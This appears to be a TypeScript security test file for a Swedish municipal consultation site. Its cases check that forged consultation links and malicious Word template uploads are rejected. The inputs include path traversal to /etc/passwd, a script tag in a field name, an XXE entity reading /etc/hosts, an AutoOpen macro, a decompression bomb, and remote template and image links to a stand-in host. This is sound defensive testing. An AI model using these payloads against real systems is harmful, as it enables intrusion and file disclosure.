import { starterTemplate } from '#documents/docx/starter-template.server.ts';
import { newId } from '#platform/uuid.server.ts';
import { editedWord } from '../municipal-template.ts';
import { A_MISTAKE, nothingThere, type Attack, type Kept } from './attack.ts';
import { NO_PAGE, LONG, MEANWHILE, WORDS, type Fields } from './case-parts.ts';
import type { Council } from './council.ts';

const answer = (
  name: string,
  token: keyof Council,
  fields: Fields,
  status: number,
  says: string,
  kept: Kept = { none: A_MISTAKE },
): Attack => ({
  name: `answer a consultation ${name}`,
  how: ({ council }) => ({ at: `/arbete/samrad/${council.own[token]}`, fields }),
  status,
  says,
  kept,
});
const YES = { 'answer-no': '0', verdict: 'endorses', comment: '' };
const CLOSED = 'Länken öppnar inget samråd.';
const refusedLink: Kept = { type: 'consultation-link-refused' };
const LINKS: readonly Attack[] = [
  answer('by an expired link', 'expired', YES, 404, CLOSED, refusedLink),
  answer('by a guessed link', 'unknown', YES, 404, CLOSED, refusedLink),
  answer('that went on without', 'over', YES, 409, 'Samrådet är avslutat'),
  answer('with a verdict that there is not', 'token', { ...YES, verdict: 'ja' }, 422, 'Välj om ni tillstyrker'),
  answer('against it without a word', 'token', { ...YES, verdict: 'objects' }, 422, 'Skriv varför ni avstyrker.'),
  answer('with too many words', 'token', { ...YES, comment: LONG }, 422, 'Texten får ha högst'),
  answer('with a forged number', 'token', { ...YES, 'answer-no': '7' }, 409, MEANWHILE),
  answer(
    'of a point of others',
    'token',
    { ...YES, [`point-verdict-${newId()}`]: 'endorses' },
    404,
    'Punkten finns inte',
  ),
  answer(
    'of a point by a script for an id',
    'token',
    { ...YES, 'point-verdict-"><script>': 'endorses' },
    404,
    'Punkten finns inte',
  ),
  {
    name: 'another folder in place of a consultation’s link',
    how: () => ({ at: '/arbete/samrad/..%2f..%2fetc%2fpasswd' }),
    status: 404,
    says: CLOSED,
    kept: refusedLink,
  },
  {
    name: 'a consultation’s link as a session',
    how: ({ own, council }) => ({ at: `/arbete/arenden/${own.slug}`, cookie: `loftet=${council.own.token}` }),
    status: 401,
    says: 'Du är inte inloggad',
    kept: { none: 'en kaka som ingen inloggning har är ingen inloggning; inget säger vems den var' },
  },
  {
    name: 'answer for a party that somebody else answers for, signed in',
    how: ({ own, council }) => ({
      as: 'contact',
      at: `/arbete/arenden/${own.slug}/${council.own.draft}/samrad/${council.own.asked}`,
      fields: YES,
    }),
    status: 404,
    says: NO_PAGE,
    kept: nothingThere('contact'),
  },
];

const template = await starterTemplate();
const sendTemplate = (name: string, bytes: () => Uint8Array, says: string): Attack => ({
  name: `a Word template with ${name}`,
  how: (site) => ({
    as: 'administrator',
    at: `${WORDS(site)}/wordmall?/skicka`,
    file: { field: 'fil', name: 'mall.docx', bytes: bytes() },
  }),
  status: 422,
  says,
  kept: { none: A_MISTAKE },
});
const relation = (type: string, target: string) => (): Uint8Array =>
  editedWord(template, 'word/_rels/document.xml.rels', (xml) =>
    xml.replace(
      '</Relationships>',
      `<Relationship Id="rId999" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    ),
  );
const TEMPLATES: readonly Attack[] = [
  sendTemplate('nothing in it', () => new Uint8Array(), 'mall.docx'),
  sendTemplate('a bomb', () => editedWord(template, 'word/media/bomb.png', () => ' '.repeat(3_000_000)), 'mall.docx'),
  sendTemplate('a macro', () => editedWord(template, 'word/vbaProject.bin', () => 'Sub AutoOpen()'), 'makro'),
  sendTemplate(
    'entities of its own',
    () =>
      editedWord(template, 'word/document.xml', (xml) =>
        xml.replace('<w:document', '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/hosts">]><w:document'),
      ),
    'mall.docx',
  ),
  sendTemplate('a template from elsewhere', relation('attachedTemplate', 'https://spion.example/a.dotx'), 'mall.docx'),
  sendTemplate('a picture from elsewhere', relation('image', 'https://spion.example/pixel.png'), 'mall.docx'),
];

/** What comes from outside: links to a consultation, and Word templates. */
export const CASE_LINK_ATTACKS: readonly Attack[] = [...LINKS, ...TEMPLATES];
